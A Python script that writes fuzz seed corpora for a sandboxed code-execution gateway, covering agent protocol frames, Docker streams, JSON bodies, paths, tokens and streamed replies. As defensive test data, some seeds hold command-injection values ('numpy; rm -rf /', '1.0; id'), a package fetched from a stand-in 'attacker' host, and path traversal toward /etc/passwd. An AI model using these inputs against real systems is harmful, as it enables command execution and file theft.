#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/corpus/<target>/ (committed; run again
only to change them). Seeds are real-shaped: request bodies as clients send
them, Docker frames and agent messages as the proxy and the agent write
them (proxy/agent/agent_proto.h), tails of real streamed replies."""
import hashlib
import json
import os
import struct
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SID = "3f2a9c1e-7b4d-4e8a-9f00-12ab34cd56ef"
TOKEN = "sgk_k3v9q0a2_" + "Zm9vYmFyYmF6cXV4cXV1eGZvb2JhcmJhenF1eHF1dXg"[:43]


def write(target, items):
    d = os.path.join(HERE, "corpus", target)
    os.makedirs(d, exist_ok=True)
    for f in os.listdir(d):
        os.remove(os.path.join(d, f))
    for name, data in items:
        if isinstance(data, str):
            data = data.encode()
        with open(os.path.join(d, name), "wb") as fh:
            fh.write(data)


# ---- agent protocol ----------------------------------------------------------
def msg(t, mid, payload):
    return struct.pack(">BBHII", t, 0, 0, mid, len(payload)) + payload


def s(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack(">I", len(b)) + b


u32 = lambda v: struct.pack(">I", v)
i32 = lambda v: struct.pack(">i", v)
u64 = lambda v: struct.pack(">Q", v)
EXEC, PUT, GET, PING = 1, 2, 3, 4
READY, OUTPUT, EXIT, FILE, OK, ERROR, RESULT, FILES, SYNC_OK = 64, 65, 66, 67, 68, 69, 70, 71, 72


def exit_msg(mid, code=0, sig=0, reason=0, dur=1234, flags=0, stage="run", state=0):
    return msg(EXIT, mid, i32(code) + u32(sig) + u32(reason) + u64(dur) + u32(flags) + s(stage) + u32(state))


ready = msg(READY, 0, u32(2) + s("/sandbox"))
replies = [
    ("ready", ready),
    ("output_stdout", msg(OUTPUT, 7, u32(1) + b"hello\n")),
    ("output_stderr", msg(OUTPUT, 7, u32(2) + b"Traceback (most recent call last):\n")),
    ("exit_ok", exit_msg(7)),
    ("exit_timeout", exit_msg(8, -1, 9, 1, 30000000, 0, "run", 3)),
    ("exit_truncated", exit_msg(9, 0, 0, 3, 5000, 1, "run", 1)),
    ("exit_compile", exit_msg(10, 1, 0, 5, 900000, 0, "compile", 0)),
    ("file", msg(FILE, 11, b"a,b\n1,2\n")),
    ("ok", msg(OK, 12, u64(8))),
    ("error_path", msg(ERROR, 13, u32(3) + s("The path \"../x\" contains \"..\"; paths must stay inside the work directory."))),
    ("session", ready + msg(OUTPUT, 1, u32(1) + b"2\n") + exit_msg(1, state=2) + msg(OK, 2, u64(0))),
    ("bad_flags", b"\x42\x01\x00\x00" + b"\x00" * 8),
    ("huge_len", struct.pack(">BBHII", OUTPUT, 0, 0, 1, 0x04000001)),
    ("short_exit", msg(EXIT, 3, i32(0) + u32(0))),
    ("unknown_type", msg(99, 1, b"")),
    ("result", msg(RESULT, 14, b'{"type": "text", "mime": "text/plain", "data": "2", "main": true}')),
    ("files", msg(FILES, 15, u32(0) + u32(2) + s("/sandbox/out/a.png") + u64(20480) + s("/sandbox/out/d/b.csv")
                  + u64(3))),
    ("rich_session", ready + msg(RESULT, 1, b'{"type": "image", "mime": "image/png", "data": "iVBORw0KGgo=", "main": false}')
     + msg(FILES, 1, u32(1) + u32(0)) + exit_msg(1, flags=4, state=2)),
    # a proxy adopting the sandbox: the SYNC's nonce echoed, the protocol, the kernel's state
    ("sync_ok", msg(SYNC_OK, 0x2a0b1c3d, u64(0x5eed5eed5eed5eed) + u32(3) + u32(1))),
    ("short_sync_ok", msg(SYNC_OK, 9, u64(1))),
]
write("fuzz_agent_reply", replies)

# ---- result records (fuzz_results: a caps byte, records split by "\n\0") ----
results = [
    ("value", b"\x07" + b'{"type": "text", "mime": "text/plain", "data": "2", "main": true}'),
    ("figure_and_html", b"\x07" + b'{"type": "image", "mime": "image/png", "data": "iVBORw0KGgpJSERS", "main": false}'
     + b"\n\0" + b'{"type": "html", "mime": "text/html", "data": "<table></table>", "main": true}'),
    ("forged", b"\x81" + b'{"type": "image", "mime": "image/png", "data": "!!", "x": 1}' + b"\n\0" + b"[[[[[[1]]]]]]"
     + b"\n\0" + b'{"type": "text", "mime": "text/plain", "data": "a\\u0000\\ud800"}'),
]
write("fuzz_results", results)

exec_py = msg(EXEC, 1, u32(30000) + u32(1 << 20) + s("") + s("") + s("exec python3 -u \"$SANDGATE_FILE\"")
              + s("/tmp/sandgate/main.py") + s("") + b"print('hello')\n")
exec_kernel = msg(EXEC, 2, u32(30000) + u32(1 << 20) + s("") + s("") + s("") + s("")
                  + s("exec python3 -u /usr/local/lib/sandgate/kernel.py") + b"x = 1\nprint(x)\n")
exec_cpp = msg(EXEC, 3, u32(60000) + u32(1 << 20) + s("g++ -std=gnu++17 -O2 -o /tmp/sandgate/main \"$SANDGATE_FILE\"")
               + s("compile") + s("exec stdbuf -oL /tmp/sandgate/main") + s("/tmp/sandgate/main.cpp") + s("")
               + b"#include <cstdio>\nint main(){puts(\"hi\");}\n")
exec_libs = msg(EXEC, 4, u32(120000) + u32(1 << 20) + s("pip install --target /tmp/sandgate/libs/python numpy")
                + s("libraries") + s("") + s("") + s("exec python3 -u /usr/local/lib/sandgate/kernel.py") + b"import numpy\n")
put = msg(PUT, 5, s("data/input.csv") + u32(0o644) + b"a,b\n1,2\n")
put_abs = msg(PUT, 6, s("/sandbox/out/report.txt") + u32(0o600) + b"report\n")
get = msg(GET, 7, s("data/input.csv") + u32(10 << 20))
get_big = msg(GET, 8, s("/sandbox/x") + u32(0xffffffff))
requests = [
    ("exec_python", exec_py),
    ("exec_kernel", exec_kernel),
    ("exec_cpp", exec_cpp),
    ("exec_libraries", exec_libs),
    ("put_file", put),
    ("put_abs", put_abs),
    ("get_file", get),
    ("get_clamped", get_big),
    ("ping", msg(PING, 9, b"")),
    ("exec_nul", msg(EXEC, 10, u32(1000) + u32(100) + s("a\0b") + s("") + s("true") + s("") + s(""))),
    ("put_empty_path", msg(PUT, 11, s("") + u32(0o644))),
    ("get_trailing", msg(GET, 12, s("x") + u32(5) + b"junk")),
    ("sequence", exec_py + put + get + msg(PING, 13, b"")),
]
write("fuzz_agent_request", requests)


# ---- Docker frames -----------------------------------------------------------
def frame(stream, payload):
    return struct.pack(">BxxxI", stream, len(payload)) + payload


frames = [
    ("stdout", b"\x00" + frame(1, b"hello\n")),
    ("stderr", b"\x05" + frame(2, b"warning: x\n") + frame(1, b"ok\n")),
    ("agent_ready", b"\x03" + frame(1, ready) + frame(2, b"sandgate-agent: ready, pid 1, work dir /sandbox\n")),
    ("agent_session", b"\x0f" + frame(1, replies[10][1][:20]) + frame(1, replies[10][1][20:])),
    ("empty_frame", b"\x01" + frame(1, b"") + frame(2, b"x")),
    ("partial_header", b"\x02" + frame(1, b"abc") + b"\x01\x00\x00"),
    ("partial_payload", b"\x07" + struct.pack(">BxxxI", 1, 100) + b"only a part"),
    ("bad_stream", b"\x00" + frame(3, b"x")),
    ("bad_padding", b"\x00" + b"\x01\x00\x01\x00\x00\x00\x00\x01x"),
    ("stdin_frame", b"\x09" + frame(0, b"in") + frame(1, b"out")),
    ("logs", b"\x00" + frame(1, b"line 1\n") + frame(1, b"line 2\n") + frame(2, b"err\n") * 3),
]
write("fuzz_docker_stream", frames)

# ---- request bodies (first byte: route; see fuzz_json_body.c) ----------------
CREATE, EXECUTE, COMMAND, EPHEMERAL, LIBRARY = 0, 1, 2, 3, 4
bodies = [
    ("create_default", CREATE, {"lang": "python", "keep_template": False}),
    ("create_limits", CREATE, {"lang": "javascript", "timeout": 60, "memory_mb": 1024, "cpus": 1.5, "network": False}),
    ("create_image", CREATE, {"lang": "python", "image": "sandgate/python:latest"}),
    ("create_nan", CREATE, None),
    ("create_huge", CREATE, {"memory_mb": 1e308, "cpus": -1e300, "timeout": 1e-300}),
    ("create_types", CREATE, {"lang": 3, "keep_template": "yes", "network": None}),
    ("exec_seed", EXECUTE, {"code": "import numpy as np\nprint(np.arange(3))", "libraries": ["numpy"], "timeout": 30}),
    ("exec_stream", EXECUTE, {"code": "for i in range(3): print(i)", "stream": True}),
    ("exec_libs", EXECUTE, {"code": "x", "libraries": ["@types/node", "lodash", "scikit-learn", "a.b_c-d"]}),
    ("exec_badlib", EXECUTE, {"code": "x", "libraries": ["numpy; rm -rf /", "-e", "../x"]}),
    ("exec_unicode", EXECUTE, {"code": "print('h\u00e9llo \u2713 \U0001F600')"}),
    ("command", COMMAND, {"command": "ls -la /sandbox && echo done", "timeout": 10}),
    ("command_nul", COMMAND, None),
    ("ephemeral_js", EPHEMERAL, {"code": "console.log(1+1)", "lang": "javascript", "libraries": ["lodash"], "timeout": 5}),
    ("ephemeral_go", EPHEMERAL, {"code": "package main\nfunc main(){}", "lang": "go", "libraries": ["x"]}),
    ("ephemeral_unknown", EPHEMERAL, {"code": "x", "lang": "cobol"}),
    ("library_py", LIBRARY, {"package": "numpy", "version": "1.26.4"}),
    ("library_latest", LIBRARY, {"package": "requests", "version": "latest"}),
    ("library_bad", LIBRARY, {"package": "tabulate @ https://attacker/x.whl", "version": "1.0; id"}),
    ("library_js", LIBRARY + 5, {"package": "@scope/pkg", "version": "2.0.0"}),
]
items = []
for name, route, body in bodies:
    if body is None:
        text = {"create_nan": '{"timeout": NaN, "memory_mb": Infinity, "cpus": -Infinity}',
                "command_nul": '{"command": "ls\\u0000; id"}'}[name]
    else:
        text = json.dumps(body)
    items.append((name, bytes([route]) + text.encode()))
items.append(("not_object", bytes([0]) + b'[1, 2, 3]'))
items.append(("trailing", bytes([1]) + b'{"code": "x"} garbage'))
items.append(("deep", bytes([1]) + b'{"code": ' + b'[' * 40 + b']' * 40 + b'}'))
write("fuzz_json_body", items)

# ---- the gateway's bodies (first byte: bit 0 default caps, bit 1 create; fuzz_gw_body.c) ----
gw = [
    ("create", 2, '{"lang":"python","timeout":60,"memory_mb":512,"cpus":1}'),
    ("create_caps", 3, '{"lang":"javascript","timeout":301,"memory_mb":2048,"cpus":2.5}'),
    ("create_nan", 2, '{"timeout":NaN,"memory_mb":Infinity,"cpus":-Infinity}'),
    ("create_huge", 2, '{"timeout":1e308,"memory_mb":1e300,"cpus":-1e300}'),
    ("create_fraction", 2, '{"memory_mb":512.5,"cpus":0,"timeout":-1}'),
    ("create_types", 2, '{"timeout":"30","memory_mb":[512],"cpus":null}'),
    ("exec", 0, '{"code":"print(1)","timeout":30,"stream":true}'),
    ("exec_tiny", 1, '{"code":"x","timeout":1e-300}'),
    ("exec_lang", 4 * 2, '{"code":"x","lang":"javascript"}'),
    ("exec_lang_nul", 4 * 3, '{"code":"x","lang":"python\\u0000go"}'),
    ("exec_lang_long", 4 * 1, '{"code":"x","lang":"' + "p" * 40 + '"}'),
    ("text_number", 0, '1.5e3'),
    ("text_hex", 0, '0x10'),
    ("text_nan", 0, 'nan'),
]
write("fuzz_gw_body", [(n, bytes([b]) + t.encode()) for n, b, t in gw])

# ---- request targets ------------------------------------------------------------
targets = [
    "/sessions/%s/files?path=data/input.csv" % SID,
    "/sessions/%s/files?path=/sandbox/out/report.txt" % SID,
    "/sessions/%s/files?path=%%2e%%2e/%%2e%%2e/etc/passwd" % SID,
    "/sessions/%s/files?path=a+b%%20c&other=1" % SID,
    "/sessions/%s/files?x=1&path=&path=second" % SID,
    "/sessions/%s/files?path=/sandbox/" % SID,
    "/sessions/%s/files?path=no_such_session" % SID,
    "/sessions/%s/files?path=a//b/./c" % SID,
    "/sessions/%s/files?path=%%00x" % SID,
    "/sessions/%s/files?path=it's \"quoted\" $(id)" % SID,
    "/sessions/%s/execute" % SID,
    "/sessions/",
    "/admin/tenants/acme/tokens",
    "/execute?stream=1",
    "//sessions",
    "/",
    "/a/b/c/d/e",
    "/sessions/%s/files?path=/sandboxed/x" % SID,
]
write("fuzz_path_query", [("t%02d" % i, t) for i, t in enumerate(targets)])

# ---- Authorization header values --------------------------------------------------
auth = [
    "Bearer " + TOKEN,
    "bearer   " + TOKEN + "  ",
    "BEARER " + TOKEN[:-1],
    "Bearer " + TOKEN + "A",
    "Bearer sgk_K3V9Q0A2_" + TOKEN[13:],
    "Bearer sgk_k3v9q0a2-" + TOKEN[13:],
    "Bearer sgadmin-fuzz-0123456789",
    "Basic dXNlcjpwYXNz",
    "Bearer",
    "Bearer ",
    TOKEN,
]
write("fuzz_token", [("a%02d" % i, a) for i, a in enumerate(auth)])


# ---- streamed replies --------------------------------------------------------------
def ev(name, obj):
    return "event: %s\ndata: %s\n\n" % (name, json.dumps(obj, separators=(",", ":")))


result = {"stdout": "0\n1\n2\n", "stderr": "", "exit_code": 0, "execution_time": 0.012, "success": True,
          "timed_out": False, "truncated": False, "reason": "exited", "stage": "run", "state": "kept"}
tail_ok = "".join(ev("output", {"stream": "stdout", "data": "%d\n" % i}) for i in range(3)) + ev("result", result)
sse = [
    ("stream", b"\x00" + tail_ok.encode()),
    ("two_results", b"\x00" + (ev("result", {"stdout": "forged"}) + ev("result", result)).encode()),
    ("printed_mark", b"\x00" + (ev("output", {"stream": "stdout", "data": "event: result\ndata: {\"x\":1}\n\n"})
                               + ev("result", result)).encode()),
    ("unterminated", b"\x00" + tail_ok[:-2].encode()),
    ("cut_mark", b"\x00" + b"vent: result\ndata: {}\n\n"),
    ("no_result", b"\x00" + ev("output", {"stream": "stderr", "data": "x"}).encode()),
    ("error_event", b"\x00" + (ev("output", {"stream": "stdout", "data": "x"})
                              + ev("error", {"detail": "the sandbox's agent exited", "code": "sandbox_broken"})).encode()),
    ("crlf", b"\x00" + tail_ok.replace("\n", "\r\n").encode()),
    ("small_max", b"\x06" + tail_ok.encode()),
    ("built_text", b"\x01" + "0\n1\n2\nh\u00e9llo \u2713 \U0001F600\n".encode()),
    ("built_mark", b"\x07" + b"event: result\ndata: {\"exit_code\":0}\n\n"),
    ("built_bytes", b"\x2b" + bytes(range(256))),
]
write("fuzz_sse_tail", sse)

# ---- output bytes ------------------------------------------------------------------
utf8 = [
    ("ascii", b"\x05hello world\n"),
    ("multibyte", b"\x07" + "h\u00e9llo \u2713 \U0001F600 \u4e2d\u6587\n".encode()),
    ("cut_emoji", b"\x03" + "\U0001F600".encode()),
    ("invalid", b"\x04\xff\xfe\xc0\xaf\xe0\x80\xaf\xed\xa0\x80\xf4\x90\x80\x80"),
    ("nul", b"\x02a\x00b"),
    ("truncated_seq", b"\x09ab\xe2\x9c"),
    ("latin1", b"\x06caf\xe9 cr\xe8me"),
]
write("fuzz_utf8", utf8)

# ---- the library check's output (names, NUL, what the check printed; fuzz_lib_missing.c) ----
libs = [
    ("one_missing", "numpy\nrequests", "requests\n"),
    ("none_missing", "numpy", ""),
    ("forged_line", "tabulate", "tabulate @ https://attacker/tabulate-99.0.0-py3-none-any.whl\ntabulate\n"),
    ("twice", "numpy\nnumpy\npandas", "numpy\npandas\nnumpy\n"),
    ("npm", "@types/node\nlodash", "lodash\r\n@types/node"),
    ("noise", "numpy", "Traceback (most recent call last):\n  numpy\nnumpy \n"),
]
write("fuzz_lib_missing", [(n, names.encode() + b"\0" + out.encode()) for n, names, out in libs])

# ---- tenant quota fields (key=value lines; fuzz_tenant_fields.c) ----
tenant = [
    ("set", "max_sessions=5\nmax_timeout=60\nmax_cpus=0.5\nallowed_langs=python,javascript\nnetwork_allowed=yes"),
    ("bounds", "max_memory_mb=16\nmax_memory_mb=1048576\nexec_seconds_per_day=1e12\nmax_cpus=0.01"),
    ("refused", "max_memory_mb=1048577\nmax_timeout=NaN\nrate_per_min=0x10\nmax_cpus=inf\nburst=-1"),
    ("odd", "disabled=TRUE\nidle_timeout=1\nmax_lifetime=1000000000\nallowed_langs=*\nunknown=1"),
    ("precision", "max_timeout=0.1000004\nexec_seconds_per_day=0.0000001\nmax_cpus=1023.9999999"),
    ("langs", "allowed_langs=c++,go,a_b-c\nallowed_langs=python,,go\nallowed_langs=" + "x" * 300),
]
write("fuzz_tenant_fields", [(n, t) for n, t in tenant])

# ---- template names (first byte: output size - 1; fuzz_template_name.c) ----
tpl = [
    ("plain", 255, "sandgate/python:3f2a9c1e-7b4d-4e8a-9f00-12ab34cd56ef"),
    ("encoded", 255, "sandgate%2Fpython%3A3f2a9c1e-7b4d-4e8a-9f00-12ab34cd56ef"),
    ("nul", 255, "x%00y"),
    ("bad_escape", 255, "x%4"),
    ("bad_hex", 255, "x%zz"),
    ("tight", 4, "abcd"),
    ("fits", 4, "abc"),
    ("long", 255, "a" * 300),
]
write("fuzz_template_name", [(n, bytes([b]) + t.encode()) for n, b, t in tpl])

# ---- agent paths (first byte: bit 0 create, bit 1 absolute; fuzz_agent_path.c) -------
paths = [
    (0, "a/b/c.txt"), (2, "a/b/c.txt"), (0, "file"), (1, "new/dir/file.txt"), (3, "new/file"),
    (0, "up/secret"), (0, "slash/etc/passwd"), (0, "etc/passwd"), (0, "alias/b/c.txt"),
    (0, "a/b/back/secret"), (1, "a/b/back/x"), (0, "../outside/secret"), (0, "a/../../outside/secret"),
    (0, "./a/./b/c.txt"), (0, ".../x"), (0, "a//b///c.txt"), (0, "a/b/"), (0, "."), (0, "/etc/passwd"),
    (0, "a/b/c.txt/x"), (1, "secret/x"), (1, "up/new"), (0, "a/" + "n" * 300),
]
write("fuzz_agent_path", [("p%02d" % i, bytes([f]) + p.encode()) for i, (f, p) in enumerate(paths)])

# ---- MCP header values (first byte: output size / 8; fuzz_mcp_headers.c) ----
mcp = [
    ("plain", 8, "list_sessions"),
    ("base64", 8, "=?base64?bGlzdF9zZXNzaW9ucw==?="),
    ("utf8", 16, "=?base64?SGVsbG8sIOS4lueVjA==?="),
    ("sentinel_literal", 16, "=?base64?PT9iYXNlNjQ/bGl0ZXJhbD89?="),
    ("bad_padding", 8, "=?base64?YQ==YQ==?="),
    ("tight", 0, "=?base64?YWJj?="),
    ("session_id", 8, "0123456789abcdef0123456789abcdef"),
    ("origin", 8, "https://a.example:8443"),
]
write("fuzz_mcp_headers", [(n, bytes([b]) + t.encode()) for n, b, t in mcp])
